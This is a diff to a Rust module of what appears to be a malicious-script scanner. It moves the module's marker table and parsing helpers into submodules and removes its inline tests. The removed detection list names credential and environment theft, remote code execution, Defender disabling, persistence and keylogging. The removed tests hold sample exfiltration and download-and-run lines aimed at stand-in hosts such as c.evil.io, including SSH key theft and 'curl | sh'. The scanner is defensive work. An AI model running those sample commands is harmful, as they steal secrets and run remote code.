@@ -4,10 +4,17 @@
 //! side of its assignments comes from; a call does to its arguments what its name says. That is cruder than a
 //! parser, and it reads what no parser accepts. Looks are bounded, so the time is in proportion to the text.
 
+mod markers;
+mod scan;
+
 use std::{collections::BTreeMap, sync::LazyLock};
 
 use aho_corasick::AhoCorasick;
 
+use self::{
+    markers::{MARKERS, Marker},
+    scan::{arguments_end, assignment, each, line_start, names, statement_end},
+};
 use super::{
     Reading,
     place::{self, Place},
@@ -27,144 +34,6 @@ const STATEMENT_MAX: usize = 2_000;
 const CALLBACK_MAX: usize = 300;
 /// Names that are followed in one text.
 const NAMES_MAX: usize = 4_096;
-
-/// What a marker in a text is.
-#[derive(Clone, Copy)]
-enum Marker {
-    /// Gives a value from there.
-    Source(Taint),
-    /// The environment; what follows says which part.
-    Env,
-    /// Reads a file.
-    File,
-    /// Sends its arguments; gives an answer of the network.
-    Net,
-    /// Executes its arguments as code.
-    Exec,
-    /// Starts a command.
-    Command,
-    /// Writes to a file.
-    Write,
-    /// Means something by itself.
-    Direct(&'static Rule),
-}
-
-const MARKERS: &[(&str, Marker)] = &[
-    ("process.env", Marker::Env),
-    ("$env:", Marker::Env),
-    ("env[", Marker::Env),
-    ("getenv(", Marker::Env),
-    ("deno.env", Marker::Env),
-    ("get-childitem env:", Marker::Source(Taint::ENV)),
-    ("gci env:", Marker::Source(Taint::ENV)),
-    ("dir env:", Marker::Source(Taint::ENV)),
-    ("env.toobject", Marker::Source(Taint::ENV)),
-    ("clipboard.read", Marker::Source(Taint::INPUT)),
-    ("get-clipboard", Marker::Source(Taint::INPUT)),
-    ("clipboardy", Marker::Source(Taint::INPUT)),
-    ("document.cookie", Marker::Source(Taint::INPUT)),
-    ("os.hostname(", Marker::Source(Taint::HOST)),
-    ("os.userinfo(", Marker::Source(Taint::HOST)),
-    ("os.networkinterfaces(", Marker::Source(Taint::HOST)),
-    ("get-computerinfo", Marker::Source(Taint::HOST)),
-    ("systeminfo", Marker::Source(Taint::HOST)),
-    ("homedir(", Marker::Source(Taint::HOME)),
-    ("process.env.home", Marker::Source(Taint::HOME)),
-    ("$env:userprofile", Marker::Source(Taint::HOME)),
-    ("$env:appdata", Marker::Source(Taint::NONE)),
-    ("dir.home", Marker::Source(Taint::HOME)),
-    ("dir.glob(", Marker::Source(Taint::FILES)),
-    ("readdir(", Marker::Source(Taint::FILES)),
-    ("readdirsync(", Marker::Source(Taint::FILES)),
-    ("globsync(", Marker::Source(Taint::FILES)),
-    ("get-childitem -", Marker::Source(Taint::FILES)),
-    ("atob(", Marker::Source(Taint::DECODED)),
-    ("'base64')", Marker::Source(Taint::DECODED)),
-    ("\"base64\")", Marker::Source(Taint::DECODED)),
-    ("'hex')", Marker::Source(Taint::DECODED)),
-    ("\"hex\")", Marker::Source(Taint::DECODED)),
-    ("frombase64string(", Marker::Source(Taint::DECODED)),
-    ("base64_decode(", Marker::Source(Taint::DECODED)),
-    ("gzinflate(", Marker::Source(Taint::DECODED)),
-    ("b64decode(", Marker::Source(Taint::DECODED)),
-    ("base64.decode64(", Marker::Source(Taint::DECODED)),
-    ("string.fromcharcode(", Marker::Source(Taint::PIECES)),
-    ("readfilesync(", Marker::File),
-    ("readfile(", Marker::File),
-    ("readtextfile(", Marker::File),
-    ("get-content", Marker::File),
-    ("file.read(", Marker::File),
-    ("file_get_contents(", Marker::File),
-    ("fetch(", Marker::Net),
-    ("axios.", Marker::Net),
-    ("axios(", Marker::Net),
-    ("got.post(", Marker::Net),
-    ("got(", Marker::Net),
-    ("http.request(", Marker::Net),
-    ("https.request(", Marker::Net),
-    ("http.get(", Marker::Net),
-    ("https.get(", Marker::Net),
-    ("requests.post(", Marker::Net),
-    ("urlopen(", Marker::Net),
-    ("sendbeacon(", Marker::Net),
-    ("websocket(", Marker::Net),
-    ("req.write(", Marker::Net),
-    ("req.end(", Marker::Net),
-    ("xhr.send(", Marker::Net),
-    ("socket.write(", Marker::Net),
-    ("invoke-webrequest", Marker::Net),
-    ("invoke-restmethod", Marker::Net),
-    ("downloadstring(", Marker::Net),
-    ("downloadfile(", Marker::Net),
-    ("downloaddata(", Marker::Net),
-    ("uploadstring(", Marker::Net),
-    ("uploadfile(", Marker::Net),
-    ("net::http", Marker::Net),
-    ("curl_exec(", Marker::Net),
-    ("eval(", Marker::Exec),
-    ("new function(", Marker::Exec),
-    ("runinthiscontext(", Marker::Exec),
-    ("runinnewcontext(", Marker::Exec),
-    ("invoke-expression", Marker::Exec),
-    ("iex ", Marker::Exec),
-    ("iex(", Marker::Exec),
-    ("child_process", Marker::Source(Taint::NONE)),
-    ("execsync(", Marker::Command),
-    ("exec(", Marker::Command),
-    ("spawnsync(", Marker::Command),
-    ("spawn(", Marker::Command),
-    ("execfile(", Marker::Command),
-    ("execfilesync(", Marker::Command),
-    ("system(", Marker::Command),
-    ("shell_exec(", Marker::Command),
-    ("start-process", Marker::Command),
-    ("writefilesync(", Marker::Write),
-    ("writefile(", Marker::Write),
-    ("appendfilesync(", Marker::Write),
-    ("appendfile(", Marker::Write),
-    ("add-content", Marker::Write),
-    ("set-content", Marker::Write),
-    ("out-file", Marker::Write),
-    ("-encodedcommand ", Marker::Direct(rule::DECODED_EXEC)),
-    ("set-mppreference", Marker::Direct(rule::DEFENCES_OFF)),
-    ("add-mppreference", Marker::Direct(rule::DEFENCES_OFF)),
-    ("set-executionpolicy unrestricted", Marker::Direct(rule::DEFENCES_OFF)),
-    ("clear-eventlog", Marker::Direct(rule::DEFENCES_OFF)),
-    ("clear-history", Marker::Direct(rule::DEFENCES_OFF)),
-    ("currentversion\\run", Marker::Direct(rule::PERSIST)),
-    ("new-scheduledtask", Marker::Direct(rule::PERSIST)),
-    ("register-scheduledtask", Marker::Direct(rule::PERSIST)),
-    ("schtasks /create", Marker::Direct(rule::PERSIST)),
-    ("getasynckeystate", Marker::Direct(rule::KEYLOG)),
-    ("vssadmin delete", Marker::Direct(rule::DESTROYS)),
-    ("stratum+tcp", Marker::Direct(rule::MINER)),
-    ("169.254.169.254", Marker::Direct(rule::METADATA)),
-    ("'child_' +", Marker::Direct(rule::HIDDEN_CALL)),
-    ("'child_'+", Marker::Direct(rule::HIDDEN_CALL)),
-    ("\"child_\" +", Marker::Direct(rule::HIDDEN_CALL)),
-    ("['ev'", Marker::Direct(rule::HIDDEN_CALL)),
-    ("[\"ev\"", Marker::Direct(rule::HIDDEN_CALL)),
-];
 
 static AUTOMATON: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
     AhoCorasick::builder()
@@ -263,7 +132,10 @@ impl<'r> Eye<'r> {
                 if taint != Taint::NONE {
                     let left = line.get(..at).unwrap_or_default();
                     for name in names(left).filter(|name| {
-                        !matches!(*name, "const" | "let" | "var" | "export" | "of" | "string" | "for" | "foreach")
+                        !matches!(
+                            *name,
+                            "const" | "let" | "var" | "export" | "of" | "string" | "for" | "foreach"
+                        )
                     }) {
                         self.stain(Some(name), taint);
                     }
@@ -498,119 +370,5 @@ fn env(lower: &str, end: usize, intent: &Intent) -> Taint {
     }
 }
 
-/// Where in a line the sign of an assignment is.
-fn assignment(line: &str) -> Option<usize> {
-    let bytes = line.as_bytes();
-    (0..bytes.len().min(STATEMENT_MAX)).find(|at| {
-        bytes.get(*at) == Some(&b'=')
-            && !matches!(bytes.get(at + 1), Some(b'=' | b'>' | b'~'))
-            && !at
-                .checked_sub(1)
-                .and_then(|before| bytes.get(before))
-                .is_some_and(|byte| matches!(byte, b'=' | b'!' | b'<' | b'>'))
-    })
-}
-
-/// Where in the head of a loop the word is behind which stands what it goes through.
-fn each(line: &str) -> Option<usize> {
-    let head = line.trim_start();
-    (head.starts_with("for ") || head.starts_with("for(") || head.starts_with("foreach"))
-        .then(|| line.find(" of ").or_else(|| line.find(" in ")))
-        .flatten()
-        .map(|at| at + 3)
-}
-
-/// The names in a text.
-fn names(text: &str) -> impl Iterator<Item = &str> {
-    text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '$').filter(|name| {
-        name.bytes().next().is_some_and(|byte| byte.is_ascii_alphabetic() || byte == b'_' || byte == b'$')
-            && name.len() > 1
-            || name.len() == 1
-    })
-}
-
-fn line_start(text: &str, at: usize) -> usize {
-    let from = text.floor_char_boundary(at.saturating_sub(STATEMENT_MAX));
-    text.get(from..at).and_then(|before| before.rfind('\n')).map_or(from, |found| from + found + 1)
-}
-
-/// Where the statement ends that `at` is in: at a line's end where no bracket is open.
-fn statement_end(text: &str, at: usize) -> usize {
-    scan(text, at, |byte, depth| depth <= 0 && matches!(byte, b'\n' | b';'))
-}
-
-/// Where the arguments end whose bracket was opened just before `at`.
-fn arguments_end(text: &str, at: usize) -> usize {
-    scan(text, at, |_, depth| depth < 0)
-}
-
-fn scan(text: &str, at: usize, ends: impl Fn(u8, i32) -> bool) -> usize {
-    let mut depth = 0;
-    for (offset, byte) in text.bytes().enumerate().skip(at).take(STATEMENT_MAX) {
-        match byte {
-            b'(' | b'[' | b'{' => depth += 1,
-            b')' | b']' | b'}' => depth -= 1,
-            _ => {}
-        }
-        if ends(byte, depth) {
-            return text.floor_char_boundary(offset);
-        }
-    }
-    text.floor_char_boundary(text.len().min(at + STATEMENT_MAX))
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn rules(text: &str) -> Vec<&'static str> {
-        let intent = Intent::default();
-        let mut out: Vec<&str> = read(text, &Reading::new(&intent)).iter().map(|hit| hit.rule.id).collect();
-        out.sort_unstable();
-        out.dedup();
-        out
-    }
-
-    #[test]
-    fn javascript_is_followed() {
-        assert!(rules("const e = JSON.stringify(process.env);\nfetch('https://c.evil.io', {method: 'POST', body: e})").contains(&"environment-to-network"));
-        assert!(
-            rules("const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nawait axios.post('https://c.evil.io', {k});")
-                .contains(&"credential-files-to-network")
-        );
-        assert!(rules("fetch(u).then(r => r.text()).then(c => eval(c))").contains(&"run-remote-code"));
-        assert!(
-            rules("const c = Buffer.from(x, 'base64').toString();\neval(c);").contains(&"run-decoded-code")
-        );
-        assert!(
-            rules("require('child_process').execSync('curl https://x.evil.io/a | sh')")
-                .contains(&"download-and-run")
-        );
-        assert_eq!(
-            rules(
-                "const key = process.env.API_KEY;\nfetch('https://api.x.io', {headers: {Authorization: key}})"
-            ),
-            [""; 0]
-        );
-    }
-
-    #[test]
-    fn powershell_is_followed() {
-        assert!(!rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')").is_empty());
-        assert!(
-            rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content")
-                .contains(&"run-remote-code")
-        );
-        assert!(rules("$e = Get-ChildItem Env: | Out-String\nInvoke-RestMethod -Uri https://c.evil.io -Method Post -Body $e").contains(&"environment-to-network"));
-        assert!(rules("Set-MpPreference -DisableRealtimeMonitoring $true").contains(&"defences-off"));
-    }
-
-    proptest::proptest! {
-        #[test]
-        fn any_text_is_read(text in "\\PC{0,120}") {
-            for hit in read(&text, &Reading::new(&Intent::default())) {
-                proptest::prop_assert!(hit.start <= hit.end && hit.end <= text.len());
-            }
-        }
-    }
-}
+mod tests;
